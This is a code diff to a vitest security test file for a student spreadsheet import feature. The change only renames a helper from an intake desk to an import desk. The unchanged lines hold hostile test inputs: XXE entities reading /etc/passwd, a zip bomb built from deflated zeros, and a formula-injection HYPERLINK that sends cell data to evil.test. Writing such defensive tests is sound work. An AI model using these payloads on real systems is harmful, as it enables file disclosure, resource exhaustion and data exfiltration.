@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
 import { buildStudent, buildSubmission } from '#support/factories';
-import { makeIntakeDesk } from '#support/intake-desk';
+import { makeImportDesk } from '#support/import-desk';
 import { deflatedZeros, makeZip } from '#support/make-zip';
 import { xlsxParts } from '#support/make-xlsx';
 
@@ -15,7 +15,7 @@ const bomb = (bytes: number) =>
   makeZip([book!, relations!, { name: 'xl/worksheets/sheet1.xml', packed: deflatedZeros(512), bytes }]);
 
 test('a file of the machine, memory without end, or rows without end', async () => {
-  const { context, upload } = await makeIntakeDesk();
+  const { context, upload } = await makeImportDesk();
   for (const [name, bytes] of [
     ['a file by an entity', entities('<!ENTITY e SYSTEM "file:///etc/passwd">')],
     ['a file by a parameter', entities('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY e "x">')],
@@ -38,7 +38,7 @@ test('a file of the machine, memory without end, or rows without end', async () 
 });
 
 test('a formula in what the office takes out, by what students write', async () => {
-  const { context, office, batch } = await makeIntakeDesk();
+  const { context, office, batch } = await makeImportDesk();
   const formulas = [
     '=HYPERLINK("http://evil.test?"&A1)',
     '+1+1',
